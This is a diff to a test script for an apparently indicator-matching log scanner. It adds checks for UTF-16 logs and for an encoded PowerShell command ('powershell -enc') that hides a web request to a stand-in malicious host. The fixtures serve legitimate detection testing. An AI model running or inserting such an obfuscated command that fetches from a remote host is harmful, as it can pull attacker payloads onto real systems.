@@ -57,6 +57,22 @@ expect 0 "$HALLMARK" watch --once --json -i list.txt access.log
 same "$(python3 -c 'import json;print([json.loads(l)["event"]["id"] for l in open(".out")])')" \
      "$(python3 -c 'import json;print([json.loads(l)["event"]["id"] for l in open("first.json")])')" "ids of hits"
 
+# UTF-16 and base64, when asked.
+python3 - <<'PY'
+import base64
+open("wide.log", "wb").write("\ufeffone\r\ntwo www.badhost.net\r\n".encode("utf-16"))
+command = base64.b64encode("iwr http://files.otherbad.org/kit/gate.php".encode("utf-16-le")).decode()
+open("command.log", "w").write("powershell -enc " + command + "\n")
+PY
+expect 1 "$HALLMARK" watch --once -i list.txt wide.log command.log
+expect 0 "$HALLMARK" watch --once --utf16 --base64 -i list.txt wide.log command.log
+has "wide.log:2: badhost.net (subdomain www.badhost.net, in UTF-16, from list.txt:3)"
+has "command.log:1: http://files.otherbad.org/kit/gate.php (url files.otherbad.org/kit/gate.php, in base64 of UTF-16, from list.txt:8)"
+has "2 hits"
+safe_output
+expect 0 "$HALLMARK" watch --once --json --base64 -i list.txt command.log
+same "$(value "['hallmark']['wrapped']")" "['base64', 'utf16']" "how a hit was wrapped"
+
 # Compressed files and folders; a table with a header; STIX; standard input; a line without an end.
 mkdir logs
 gzip -c access.log >logs/old.gz
